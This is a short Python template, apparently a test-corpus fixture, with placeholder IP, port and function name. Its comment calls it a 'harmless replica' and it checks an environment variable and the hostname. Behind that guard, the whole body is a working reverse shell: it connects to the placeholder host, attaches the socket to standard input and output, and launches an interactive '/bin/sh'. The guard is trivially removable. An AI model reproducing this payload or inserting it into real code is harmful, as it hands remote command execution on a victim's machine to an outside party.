# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import signal
    import socket
    import time
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        child = os.fork()
        if child == 0:
            try:
                for number in (0, 1, 2):
                    os.dup2(call.fileno(), number)
                os.execv('/bin/sh', ['sh', '-i'])
            finally:
                os._exit(0)
        time.sleep(1)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        call.close()
    except OSError:
        pass
